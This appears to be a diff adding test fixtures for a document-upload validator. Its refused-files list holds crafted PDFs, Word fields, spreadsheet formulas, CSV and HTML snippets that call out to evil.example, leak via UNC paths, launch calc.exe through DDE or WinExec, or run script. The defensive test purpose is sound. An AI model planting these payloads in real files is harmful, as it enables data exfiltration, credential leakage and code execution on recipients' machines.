@@ -1,0 +1,435 @@
+"""Files that act or call home when somebody opens them, and honest ones that look alike."""
+
+from collections.abc import Callable, Iterator
+from xml.sax.saxutils import escape, quoteattr
+
+import pikepdf
+from pikepdf import Array, Dictionary, Name, String
+
+from dnk_tool.domain.evidence import FileRejectionReason
+from tests.support.evidence_files import (
+    HTML,
+    ODT,
+    SPREADSHEET,
+    WORDS,
+    external_relation,
+    office_file,
+    open_document,
+    pdf,
+)
+
+UNC = "\\\\evil.example\\share\\a"
+W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+SHEET = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
+TABLE = 'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"'
+
+File = tuple[str, bytes]
+
+
+def _action(kind: str, **more: object) -> Dictionary:
+    return Dictionary(S=Name(f"/{kind}"), **more)
+
+
+def _opening(action: Callable[[pikepdf.Pdf], object]) -> bytes:
+    """A PDF that does something as soon as it is opened."""
+
+    def change(made: pikepdf.Pdf) -> None:
+        made.Root.OpenAction = action(made)
+
+    return pdf(change=change)
+
+
+def _clicked(action: Dictionary, **more: object) -> bytes:
+    """A PDF with a link that does something on a click."""
+
+    def change(made: pikepdf.Pdf) -> None:
+        note = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action, **more)
+        made.pages[0].Annots = Array([made.make_indirect(note)])
+
+    return pdf(change=change)
+
+
+def _on_page(action: Dictionary) -> bytes:
+    def change(made: pikepdf.Pdf) -> None:
+        made.pages[0].AA = Dictionary(O=action)
+
+    return pdf(change=change)
+
+
+def _in_field(made: pikepdf.Pdf) -> None:
+    field = Dictionary(
+        FT=Name.Tx, T=String("a"), AA=Dictionary(F=_action("URI", URI=String("https://a.example")))
+    )
+    made.Root.AcroForm = Dictionary(Fields=Array([made.make_indirect(field)]))
+
+
+def _in_names(made: pikepdf.Pdf) -> None:
+    action = made.make_indirect(_action("GoToR", F=String(UNC)))
+    made.Root.Names = Dictionary(Pages=Dictionary(Names=Array([String("a"), action])))
+
+
+def _in_outline(made: pikepdf.Pdf) -> None:
+    entry = Dictionary(Title=String("a"), A=_action("GoToE", F=String(UNC)))
+    made.Root.Outlines = Dictionary(Type=Name.Outlines, First=made.make_indirect(entry))
+
+
+def _stream_elsewhere(made: pikepdf.Pdf) -> None:
+    made.pages[0].Contents = made.make_stream(b"", F=String(UNC))
+
+
+def _replaced_picture(made: pikepdf.Pdf) -> None:
+    proxy = Dictionary(Type=Name.OPI, Version=1.3, F=String(UNC))
+    picture = made.make_stream(b"\0", Type=Name.XObject, Subtype=Name.Image, OPI=Dictionary({"/1.3": proxy}))
+    made.pages[0].Resources = Dictionary(XObject=Dictionary(A=picture))
+
+
+def _page_of_another_file(made: pikepdf.Pdf) -> None:
+    form = made.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, Ref=Dictionary(F=String(UNC), Page=0))
+    made.pages[0].Resources = Dictionary(XObject=Dictionary(A=form))
+
+
+def _file_by_address(made: pikepdf.Pdf) -> None:
+    made.Root.AF = Array([Dictionary(Type=Name.Filespec, FS=Name.URL, F=String("https://evil.example/a"))])
+
+
+def _base_elsewhere(made: pikepdf.Pdf) -> None:
+    made.Root.URI = Dictionary(Base=String("file://evil.example/"))
+
+
+def _film(made: pikepdf.Pdf) -> None:
+    note = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 9, 9]))
+    made.pages[0].Annots = Array([made.make_indirect(note)])
+
+
+def _endless_chain(made: pikepdf.Pdf) -> Dictionary:
+    action = made.make_indirect(_action("GoTo", D=Array([0, Name.Fit])))
+    action.Next = action
+    return action
+
+
+def _attached(name: str, content: bytes) -> bytes:
+    def change(made: pikepdf.Pdf) -> None:
+        made.attachments[name] = content
+
+    return pdf(change=change)
+
+
+def _spelled_otherwise() -> bytes:
+    """GoToR with one letter written as a number: to readers the same name."""
+    return _clicked(_action("GoToR", F=String(UNC))).replace(b"/GoToR", b"/G#6fToR")
+
+
+def _words(body: str, *parts: tuple[str, str]) -> bytes:
+    content = f'<w:document {W} xmlns:r="r" xmlns:v="urn:schemas-microsoft-com:vml">{body}</w:document>'
+    return office_file(WORDS, {"word/document.xml": content, **dict(parts)})
+
+
+def _field(code: str, pieces: int = 1) -> str:
+    """A field whose code is split over so many runs."""
+    size = -(-len(code) // pieces)
+    runs = [code[at : at + size] for at in range(0, len(code), size)]
+    texts = "".join(
+        f'<w:r><w:instrText xml:space="preserve">{escape(run)}</w:instrText></w:r>' for run in runs
+    )
+    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
+    return f"<w:p>{mark.format('begin')}{texts}{mark.format('separate')}{mark.format('end')}</w:p>"
+
+
+def _simple_field(code: str) -> bytes:
+    return _words(f"<w:p><w:fldSimple w:instr={quoteattr(code)}/></w:p>")
+
+
+def _sheet(formula: str, *, encoding: str = "utf-8") -> bytes:
+    text = f"<worksheet {SHEET}><sheetData><row><c><f>{escape(formula)}</f></c></row></sheetData></worksheet>"
+    head = f'<?xml version="1.0" encoding="{encoding}"?>'
+    return office_file(SPREADSHEET, {"xl/worksheets/sheet1.xml": (head + text).encode(encoding)})
+
+
+def _workbook(body: str) -> bytes:
+    return office_file(SPREADSHEET, {"xl/workbook.xml": f"<workbook {SHEET}>{body}</workbook>"})
+
+
+def _cell(formula: str) -> bytes:
+    return open_document(body=f"<table:table-cell {TABLE} table:formula={quoteattr(formula)}/>")
+
+
+def _refused_pdfs() -> Iterator[tuple[str, bytes, FileRejectionReason]]:
+    actions, elsewhere, scripts = (
+        FileRejectionReason.ACTIONS,
+        FileRejectionReason.ELSEWHERE,
+        FileRejectionReason.SCRIPTS,
+    )
+    web = String("https://evil.example/")
+    yield "opens an address", _opening(lambda _made: _action("URI", URI=web)), actions
+    yield "opens another file", _opening(lambda _made: _action("GoToR", F=String(UNC))), actions
+    yield "opens a file within another", _opening(lambda _made: _action("GoToE", F=String(UNC))), actions
+    yield "prints by itself", _opening(lambda _made: _action("Named", N=Name.Print)), actions
+    yield (
+        "opens an address after a page",
+        _opening(lambda _made: _action("GoTo", D=Array([0, Name.Fit]), Next=_action("URI", URI=web))),
+        actions,
+    )
+    yield "never stops turning pages", _opening(_endless_chain), actions
+    yield "sends itself", _opening(lambda _made: _action("SubmitForm", F=web)), scripts
+    yield "page opens an address", _on_page(_action("URI", URI=web)), actions
+    yield "page opens another file", _on_page(_action("GoToR", F=String(UNC))), actions
+    yield "field opens an address", pdf(change=_in_field), actions
+    yield "link to another file", _clicked(_action("GoToR", F=String(UNC))), elsewhere
+    yield "link to another file, spelled otherwise", _spelled_otherwise(), elsewhere
+    yield "link to a file within another", _clicked(_action("GoToE", F=String(UNC))), elsewhere
+    yield "link reads a thread elsewhere", _clicked(_action("Thread", F=String(UNC), D=0)), elsewhere
+    yield "button sends", _clicked(_action("SubmitForm", F=web)), scripts
+    yield "button takes data in", _clicked(_action("ImportData", F=String(UNC))), scripts
+    yield "button starts a program", _clicked(_action("Launch", F=String("calc.exe"))), scripts
+    for address in (
+        "file:///c:/a",
+        "javascript:alert(1)",
+        "java\nscript:alert(1)",
+        UNC,
+        "//evil.example/a",
+        "smb://a/b",
+    ):
+        yield f"link to {address!r}", _clicked(_action("URI", URI=String(address))), elsewhere
+    yield "link relative to another machine", pdf(change=_base_elsewhere), elsewhere
+    yield "tree of names", pdf(change=_in_names), elsewhere
+    yield "bookmark to another file", pdf(change=_in_outline), elsewhere
+    yield "stream in another file", pdf(change=_stream_elsewhere), elsewhere
+    yield "picture in another file", pdf(change=_replaced_picture), elsewhere
+    yield "page of another file", pdf(change=_page_of_another_file), elsewhere
+    yield "file by its address", pdf(change=_file_by_address), elsewhere
+    yield "film", pdf(change=_film), scripts
+    yield (
+        "attached table calls home",
+        _attached("a.csv", b'a;"=WEBSERVICE(""http://a"")"'),
+        FileRejectionReason.FORMULAS,
+    )
+    yield "attached PDF acts", _attached("a.pdf", _opening(lambda _made: _action("URI", URI=web))), actions
+
+
+def _refused_words() -> Iterator[tuple[str, bytes, FileRejectionReason]]:
+    fields, linked = FileRejectionReason.FIELDS, FileRejectionReason.LINKED
+    for code in (
+        'INCLUDEPICTURE "https://evil.example/a.png" \\d',
+        f'includepicture "{UNC}"',
+        f'INCLUDETEXT "{UNC}"',
+        f'LINK Excel.Sheet.8 "{UNC}" "a" \\a \\p',
+        f'IMPORT "{UNC}"',
+        'DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"',
+        f'HYPERLINK "{UNC}"',
+        'HYPERLINK \\o "Tipp" "file:///c:/a.exe"',
+    ):
+        name = code.partition(" ")[0]
+        yield f"simple field {code}", _simple_field(f"  {code}"), fields
+        yield f"split field {name} {code[-9:]}", _words(_field(f" {code}", 7)), fields
+    yield (
+        "field in a header",
+        office_file(WORDS, {"word/header1.xml": f"<w:hdr {W}>{_field('INCLUDETEXT a')}</w:hdr>"}),
+        fields,
+    )
+    yield (
+        "field in a field",
+        _words(_field("IF 1 = 1").replace("</w:p>", _field("IMPORT a") + "</w:p>")),
+        fields,
+    )
+    yield (
+        "html read in",
+        _words('<w:altChunk r:id="r1"/>', ("word/a.html", HTML.decode())),
+        FileRejectionReason.SCRIPTS,
+    )
+    for kind, target in (
+        ("hyperlink", UNC),
+        ("hyperlink", "file://evil.example/a"),
+        ("hyperlink", "ms-word:ofe|u|https://evil.example"),
+        ("attachedTemplate", "https://evil.example/t.dotm"),
+        ("frame", "https://evil.example"),
+    ):
+        relations = ("word/_rels/document.xml.rels", external_relation(kind, target))
+        yield f"{kind} to {target}", _words("", relations), linked
+    unnamed = external_relation("image", "https://evil.example/a.png").replace(' TargetMode="External"', "")
+    yield "picture by its address", _words("", ("word/_rels/document.xml.rels", unnamed)), linked
+    yield "picture of an old drawing", _words(f'<v:imagedata src="{UNC}"/>'), linked
+    yield "data of a letter", _words('<w:connectString w:val="Provider=x"/>'), linked
+
+
+FORMULAS = (
+    'WEBSERVICE("https://evil.example/?"&A1)',
+    '_xlfn.IMAGE("https://evil.example/a.png")',
+    "1+webservice(A1)",
+    'FILTERXML(A1,"//a")',
+    'HYPERLINK("\\\\evil.example\\a","Rechnung")',
+    "cmd|'/c calc'!A1",
+    "1+cmd|'/c calc'!A1",
+    "'\\\\evil.example\\share\\[a.xlsx]Tabelle1'!A1",
+    "'https://evil.example/[a.xlsx]T'!A1",
+    "[a.xlsx]T!A1",
+    'IF(A1>1,2,CALL("Kernel32","WinExec","JFJ","calc",0))',
+    'DDE("cmd";"/c calc";"a")',
+    'RTD("evil.a",,"b")',
+)
+
+
+def _refused_tables() -> Iterator[tuple[str, str, bytes, FileRejectionReason]]:
+    formulas, linked = FileRejectionReason.FORMULAS, FileRejectionReason.LINKED
+    for formula in FORMULAS:
+        yield f"cell {formula}", "a.xlsx", _sheet(formula), formulas
+    yield "cell in UTF-16", "a.xlsx", _sheet(FORMULAS[0], encoding="utf-16"), formulas
+    yield (
+        "cell with prefix",
+        "a.xlsx",
+        office_file(
+            SPREADSHEET, {"xl/worksheets/sheet1.xml": '<x:a xmlns:x="x"><x:f>&#87;EBSERVICE(A1)</x:f></x:a>'}
+        ),
+        formulas,
+    )
+    yield (
+        "name",
+        "a.xlsx",
+        _workbook(f"<definedName>{FORMULAS[0]}</definedName>".replace("&", "&amp;")),
+        formulas,
+    )
+    yield "rule", "a.xlsx", _workbook(f"<formula1>{FORMULAS[5]}</formula1>"), formulas
+    for formula in (
+        "of:=WEBSERVICE([.A1])",
+        "of:=COM.MICROSOFT.WEBSERVICE([.A1])",
+        'of:=DDE("soffice";"a";"b")',
+        "of:=['file://evil.example/a.ods'#$T.A1]",
+        "msoxl:=cmd|'/c calc'!A1",
+    ):
+        yield f"cell {formula}", "a.ods", _cell(formula), formulas
+    yield "source of a table", "a.ods", open_document(body=f'<table-source xlink:href="{UNC}"/>'), linked
+    yield (
+        "picture of a table",
+        "a.ods",
+        open_document(body='<image xlink:href="https://evil.example/a.png"/>'),
+        linked,
+    )
+    yield "link to a machine", "a.odt", open_document(ODT, f'<a xlink:href="{UNC}"/>'), linked
+    meta = '<meta xmlns:xlink="http://www.w3.org/1999/xlink"><{} xlink:href="{}"/></meta>'
+    for kind, address in (
+        ("auto-reload", "https://evil.example"),
+        ("template", "file://evil.example/a.ott"),
+        ("template", "file:////evil.example/a.ott"),
+    ):
+        part = {"meta.xml": meta.format(kind, address)}
+        yield f"{kind} at {address}", "a.odt", open_document(ODT, more=part), linked
+    for text in (
+        '=IMAGE("https://evil.example/a")',
+        '"=1+BILD(""https://evil.example/a"")"',
+        '=WEBDIENST("http://a")',
+        "@SUM(1)+cmd|'/c calc'!A1",
+        '"=\nWEBSERVICE(A1)"',
+        '=DDE("cmd";"/c calc";"a")',
+        '=HYPERLINK("\\\\evil.example\\a")',
+    ):
+        for content in (f"Name;{text}\n", f"1\n {text};2"):
+            yield f"csv {content!r}", "a.csv", content.encode(), formulas
+    for text in (
+        "Betreff\n<script>alert(1)</script>",
+        'a;b\n1;<IMG src="//evil.example">',
+        "Text <svg/onload=alert(1)>",
+        "a" * 2_000 + "<iframe src=x>",
+        "Vorwort\n<!DOCTYPE  html>",
+    ):
+        yield f"html {text[-30:]!r}", "a.txt", text.encode(), FileRejectionReason.MARKUP
+
+
+def refused_files() -> dict[str, tuple[str, bytes, FileRejectionReason]]:
+    """What is done, the name, the content, and what people are told."""
+    return {
+        **{f"pdf {what}": ("a.pdf", content, why) for what, content, why in _refused_pdfs()},
+        **{f"docx {what}": ("a.docx", content, why) for what, content, why in _refused_words()},
+        **{f"{name} {what}": (name, content, why) for what, name, content, why in _refused_tables()},
+    }
+
+
+def _with_bookmarks(made: pikepdf.Pdf) -> None:
+    page = made.pages[0].obj
+    entry = Dictionary(Title=String("Seite 1"), A=_action("GoTo", D=Array([page, Name.Fit])))
+    made.Root.Outlines = Dictionary(Type=Name.Outlines, First=made.make_indirect(entry))
+    made.Root.Dests = Dictionary(a=Array([page, Name.Fit]))
+    field = Dictionary(FT=Name.Tx, T=String("Name"), V=String("Anna"))
+    made.Root.AcroForm = Dictionary(Fields=Array([made.make_indirect(field)]))
+    made.Root.StructTreeRoot = Dictionary(
+        Type=Name.StructTreeRoot, K=made.make_indirect(Dictionary(S=Name.Link, Ref=Array([page])))
+    )
+
+
+def accepted_files() -> dict[str, File]:
+    """What is in the file, its name and its content."""
+    links = (
+        "https://a.example",
+        "http://a.example/b?c=d",
+        "mailto:a@b.de",
+        "tel:+49521",
+        "www.a.example",
+        "#seite",
+    )
+    formulas = (
+        "SUM(A1:A9)",
+        "VLOOKUP(A1,'Stand 2025'!A:B,2,FALSE)",
+        'IF(A1>0,"a|b!","IMAGE(x)")',
+        "Tabelle1[Summe]*2",
+        'HYPERLINK("https://a.example","Mehr")',
+        "'Stand 1'!A1/'Stand 2'!B1",
+        "A1#",
+        "_xlfn.XLOOKUP(A1,B:B,C:C)",
+        'TEXT(A1,"0.00 ""Data: """)&"Profile: "&A2',
+        "IMAGINARY(A1)+IMREAL(A2)",
+    )
+    ods = ("of:=SUM([.A1:.A9])", "of:=['Stand 1'.A1]+[$Tabelle2.B1]", 'of:=IF([.A1]>{1;2|3;4};"a|b";"c")')
+    fields = (
+        "PAGE",
+        'TOC \\o "1-3" \\h \\z \\u',
+        'HYPERLINK "https://a.example/LINK"',
+        'HYPERLINK \\l "Anlage"',
+        "REF Link \\h",
+        'DATE \\@ "dd.MM.yyyy"',
+        "NUMPAGES  \\* MERGEFORMAT",
+    )
+    open_page = {
+        "by action": lambda made: _action("GoTo", D=Array([made.pages[0].obj, Name.Fit])),
+        "by place": lambda made: Array([made.pages[0].obj, Name.XYZ, 0, 842, 1]),
+    }
+    style = '<style:map xmlns:style="s" style:condition="value()>=0" style:apply-style-name="P0"/>'
+    return {
+        "pdf with bookmarks": ("a.pdf", pdf(change=_with_bookmarks)),
+        **{f"pdf opens a page {how}": ("a.pdf", _opening(action)) for how, action in open_page.items()},
+        **{f"pdf link to {at}": ("a.pdf", _clicked(_action("URI", URI=String(at)))) for at in links},
+        "pdf turns the page": ("a.pdf", _clicked(_action("Named", N=Name.NextPage))),
+        "pdf with a table": ("a.pdf", _attached("a.xlsx", _sheet("SUM(A1:A2)"))),
+        "pdf of a declaration": ("a.pdf", _attached("dnk-declaration.json", b"{}")),
+        **{f"docx {code}": ("a.docx", _words(_field(f" {code} ", 3))) for code in fields},
+        **{f"docx simple {code}": ("a.docx", _simple_field(code)) for code in fields},
+        **{
+            f"docx link to {at}": (
+                "a.docx",
+                _words("", ("word/_rels/document.xml.rels", external_relation("hyperlink", at))),
+            )
+            for at in (*links, "Anlage%201.pdf")
+        },
+        "docx with data of its own": (
+            "a.docx",
+            _words("", ("customXml/item1.xml", '<query xmlns="urn:a">x</query>')),
+        ),
+        **{f"xlsx {formula}": ("a.xlsx", _sheet(formula)) for formula in formulas},
+        **{f"ods {formula}": ("a.ods", _cell(formula)) for formula in ods},
+        "ods with a rule": ("a.ods", open_document(body=style)),
+        "odt link": (
+            "a.odt",
+            open_document(ODT, '<a xlink:href="mailto:a@b.de"/><image xlink:href="Pictures/1.png"/>'),
+        ),
+        "odt of a template": (
+            "a.odt",
+            open_document(
+                ODT,
+                more={
+                    "meta.xml": '<meta xmlns:xlink="http://www.w3.org/1999/xlink">'
+                    '<template xlink:href="file:///C:/Vorlagen/Brief.ott"/></meta>'
+                },
+            ),
+        ),
+        "csv with formulas": ("a.csv", b'Name;Summe\n"=SUM(A1;A2)";=B2*1,19\n-5;+49 521\n@home | Tor!;1\n'),
+        "csv with a link": ("a.csv", b'Name,Link\nA,"=HYPERLINK(""https://a.example"")"\n'),
+        "text of a mail": ("a.txt", b"Von: <anna@firma.de>\n1 < 2 und <b>fett</b>, siehe Bild (Seite 3)\n"),
+        "text about pictures": ("a.txt", b"- Bild (1): Halle\n- Image (2): =\n"),
+    }
